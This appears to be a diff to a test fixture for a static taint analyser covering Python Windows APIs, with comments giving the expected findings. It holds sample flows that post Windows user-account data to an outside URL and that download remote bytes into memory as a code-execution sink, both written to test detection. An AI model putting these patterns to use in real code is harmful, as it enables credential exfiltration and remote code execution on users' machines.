@@ -1,4 +1,5 @@
 """Windows from Python: COM automation, WMI."""
+import ctypes
 import os
 
 import requests
@@ -80,3 +81,9 @@ def watched_idle():
 def accounts():
     requests.post(U, data=wmi.WMI().Win32_UserAccount())  #~ source(USER) f9, sink(egress.http) f9, finding(traced) f9
     wmi.WMI().Win32_UserAccount()  #~ ok
+
+
+def loaded():
+    code = bytearray(requests.get(U).content)  #~ source(NETWORK) f10
+    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(1), code, len(code))  #~ sink(exec.code) f10, finding(remote-code-execution, traced) f10
+    ctypes.windll.kernel32.RtlMoveMemory(ctypes.c_void_p(1), b"a", 1)  #~ ok
